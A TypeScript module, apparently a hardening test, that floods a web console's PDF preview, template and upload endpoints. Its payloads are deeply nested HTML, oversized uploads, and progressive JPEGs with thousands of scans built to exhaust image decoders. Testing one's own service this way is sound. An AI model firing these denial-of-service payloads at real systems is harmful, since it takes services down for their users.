/** What a hostile user sends repeatedly, with as much concurrency as the console accepts. */
import { request } from 'node:http';
import sharp from 'sharp';

export type Attack = (address: string, token: string) => Promise<number[]>;

const boundary = 'sample-boundary';

/** Sends chunks with backpressure, so that the attacker needs little memory. Returns the status. */
function send(
  address: string,
  path: string,
  headers: Record<string, string>,
  pieces: Iterable<Buffer | string>,
): Promise<number> {
  return new Promise((resolve) => {
    const call = request(`${address}/api${path}`, { method: 'POST', headers }, (response) => {
      response.resume().on('end', () => resolve(response.statusCode ?? 0));
    });
    call.on('error', () => resolve(0));
    void (async () => {
      for (const piece of pieces) {
        if (call.destroyed) return;
        if (!call.write(piece))
          await new Promise((drained) => call.once('drain', drained).once('close', drained));
      }
      call.end();
    })();
  });
}

const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

function sendJson(address: string, token: string, path: string, body: string): Promise<number> {
  return send(address, path, { ...bearer(token), 'content-type': 'application/json' }, [body]);
}

function sendFiles(
  address: string,
  token: string,
  path: string,
  files: readonly (readonly [field: string, pieces: Iterable<Buffer>])[],
  fields: Readonly<Record<string, string>> = {},
): Promise<number> {
  function* pieces(): Generator<Buffer | string> {
    for (const [field, value] of Object.entries(fields)) {
      yield `--${boundary}\r\ncontent-disposition: form-data; name="${field}"\r\n\r\n${value}\r\n`;
    }
    for (const [field, content] of files) {
      yield `--${boundary}\r\ncontent-disposition: form-data; name="${field}"; filename="a.jpg"\r\n\r\n`;
      yield* content;
      yield '\r\n';
    }
    yield `--${boundary}--\r\n`;
  }
  const type = `multipart/form-data; boundary=${boundary}`;
  return send(address, path, { ...bearer(token), 'content-type': type }, pieces());
}

const times = <Result>(count: number, make: (at: number) => Result): Result[] =>
  Array.from({ length: count }, (_none, at) => make(at));

async function pictureOf(scans: number, side: number): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: side, height: side, channels: 3, background: '#336699' } })
    .jpeg({ progressive: true })
    .toBuffer();
  const end = jpeg.length - 2;
  const scan = Buffer.from(jpeg.subarray(jpeg.lastIndexOf(Buffer.from([0xff, 0xda])), end));
  const successiveApproximation = 9;
  scan[successiveApproximation] = 0;
  return Buffer.concat([jpeg.subarray(0, end), ...times(scans, () => scan), jpeg.subarray(end)]);
}

const megabyte = Buffer.alloc(2 ** 20, 7);
const noise = Buffer.from(times(2 ** 16, () => Math.floor(Math.random() * 256))).toString('base64');
const photo = `<img src="data:image/jpeg;base64,${noise.repeat(24)}">`;

let made = 0;

export const attacks: Readonly<Record<string, Attack>> = {
  'documents of 31,900 open tags': (address, token) =>
    Promise.all(
      times(20, () =>
        sendJson(
          address,
          token,
          '/client/generate-preview-pdf',
          JSON.stringify({ html: '<b>'.repeat(31_900) }),
        ),
      ),
    ),
  'documents of 15,900 pairs of tags': (address, token) =>
    Promise.all(
      times(8, () =>
        sendJson(
          address,
          token,
          '/client/generate-preview-pdf',
          JSON.stringify({ html: '<b>x</b>'.repeat(15_900) }),
        ),
      ),
    ),
  'documents of 24 MB': (address, token) =>
    Promise.all(
      times(6, () =>
        sendJson(address, token, '/client/generate-preview-pdf', JSON.stringify({ html: photo.repeat(11) })),
      ),
    ),
  'templates of 100,000 characters': (address, token) =>
    Promise.all(
      ['<b>', '<x>', '<p><b>', '<li>x', '<p style="color:red">x', '&'].map((part) => {
        made += 1;
        const content = `x${part.repeat((99_000 / part.length) | 0)}`;
        return sendJson(address, token, '/prooftype', JSON.stringify({ type: `hostile ${made}`, content }));
      }),
    ),
  'six uploads of 119 MB': (address, token) =>
    Promise.all(
      times(6, () =>
        sendFiles(
          address,
          token,
          '/client/create',
          times(12, (at) => [at % 2 ? 'images' : 'navigation2Images', times(9, () => megabyte)] as const),
        ),
      ),
    ),
  'JPEGs of thousands of scans, and of as many as are accepted': async (address, token) => {
    const [many, most] = [await pictureOf(4000, 5000), await pictureOf(85, 5000)];
    return Promise.all(
      times(8, (at) => {
        made += 1;
        const fields = { whitelabel_user: `hostile ${made}`, whatsapp_group: 'x', hexacode: '#fff' };
        const files = [['logo', [at % 2 ? many : most]]] as const;
        return sendFiles(address, token, '/whitelabel/create', files, {
          ...fields,
          url: 'https://a.example',
        });
      }),
    );
  },
};
